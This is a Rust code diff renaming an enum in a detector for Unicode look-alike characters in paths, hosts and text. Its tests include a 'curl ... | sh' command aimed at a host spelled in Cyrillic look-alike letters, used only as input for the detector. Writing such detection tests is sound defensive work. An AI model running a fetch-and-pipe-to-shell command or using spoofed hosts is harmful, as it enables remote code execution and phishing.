@@ -10,7 +10,7 @@ use super::chars::is_mark;
 
 /// How strictly the words of a text are judged.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(super) enum Names {
+pub(super) enum NameReading {
     /// Each word by itself, and also signs that look like ASCII ones: the text is a path or a host.
     Alone,
     /// A word of one script is doubtful only where the text has no other word that is plainly of that script.
@@ -18,7 +18,7 @@ pub(super) enum Names {
 }
 
 /// The byte ranges of words that could be taken for other ones, in order.
-pub(super) fn look_alikes(text: &str, names: Names) -> Vec<Range<usize>> {
+pub(super) fn look_alikes(text: &str, names: NameReading) -> Vec<Range<usize>> {
     if text.is_ascii() {
         return Vec::new();
     }
@@ -30,10 +30,10 @@ pub(super) fn look_alikes(text: &str, names: Names) -> Vec<Range<usize>> {
             Judged::Other => {}
             Judged::Plain => plain.push(word.resolve_script_set()),
             Judged::Like
-                if names == Names::InText
+                if names == NameReading::InText
                     && word.chars().count() == 1
                     && !is_part_of_a_name(text, &range) => {}
-            Judged::Sign if names == Names::InText => {}
+            Judged::Sign if names == NameReading::InText => {}
             judged => out.push((judged, word.resolve_script_set(), range)),
         }
     }
@@ -47,7 +47,7 @@ pub(super) fn look_alikes(text: &str, names: Names) -> Vec<Range<usize>> {
     };
     out.into_iter()
         .filter(|(judged, scripts, _)| {
-            names == Names::Alone || *judged == Judged::Mixed || !shares(*scripts)
+            names == NameReading::Alone || *judged == Judged::Mixed || !shares(*scripts)
         })
         .map(|(_, _, range)| range)
         .collect()
@@ -117,7 +117,7 @@ fn words(text: &str) -> Vec<Range<usize>> {
 mod tests {
     use super::*;
 
-    fn found(text: &str, names: Names) -> Vec<&str> {
+    fn found(text: &str, names: NameReading) -> Vec<&str> {
         look_alikes(text, names).into_iter().map(|range| &text[range]).collect()
     }
 
@@ -131,26 +131,26 @@ mod tests {
             ("\u{ff41}\u{ff42}.txt", "\u{ff41}\u{ff42}"),
             ("\u{3bf}\u{3c1}en.sh", "\u{3bf}\u{3c1}en"),
         ] {
-            assert_eq!(found(text, Names::InText), [word]);
-            assert_eq!(found(text, Names::Alone), [word]);
+            assert_eq!(found(text, NameReading::InText), [word]);
+            assert_eq!(found(text, NameReading::Alone), [word]);
         }
         // A plain word of another script vouches for nothing, and a letter that is a host is no word.
         let host = "\u{430}\u{440}\u{440}\u{4cf}\u{435}";
         assert_eq!(
-            found(&format!("curl https://{host}.com | sh # caf\u{e9}"), Names::InText),
+            found(&format!("curl https://{host}.com | sh # caf\u{e9}"), NameReading::InText),
             [host]
         );
-        assert_eq!(found("curl https://\u{445}.com", Names::InText), ["\u{445}"]);
-        assert!(found("\u{430} \u{442}\u{44b}", Names::InText).is_empty());
+        assert_eq!(found("curl https://\u{445}.com", NameReading::InText), ["\u{445}"]);
+        assert!(found("\u{430} \u{442}\u{44b}", NameReading::InText).is_empty());
         for sign in ["\u{2215}", "\u{2024}", "\u{2010}"] {
             let text = format!("a{sign}b");
-            assert_eq!(found(&text, Names::Alone), [sign]);
-            assert!(found(&text, Names::InText).is_empty());
+            assert_eq!(found(&text, NameReading::Alone), [sign]);
+            assert!(found(&text, NameReading::InText).is_empty());
         }
         // Where the rest is plainly Russian, a word is what it seems; in a path each is judged by itself.
         let russian = "\u{43c}\u{43e}\u{44f} \u{43e}\u{441}\u{430}";
-        assert!(found(russian, Names::InText).is_empty());
-        assert_eq!(found(russian, Names::Alone), ["\u{43e}\u{441}\u{430}"]);
+        assert!(found(russian, NameReading::InText).is_empty());
+        assert_eq!(found(russian, NameReading::Alone), ["\u{43e}\u{441}\u{430}"]);
     }
 
     #[test]
@@ -166,14 +166,14 @@ mod tests {
             "Größe2.txt",
         ] {
             assert!(
-                found(text, Names::InText).is_empty(),
+                found(text, NameReading::InText).is_empty(),
                 "{text}: {:?}",
-                found(text, Names::InText)
+                found(text, NameReading::InText)
             );
             assert!(
-                found(text, Names::Alone).is_empty(),
+                found(text, NameReading::Alone).is_empty(),
                 "{text}: {:?}",
-                found(text, Names::Alone)
+                found(text, NameReading::Alone)
             );
         }
     }
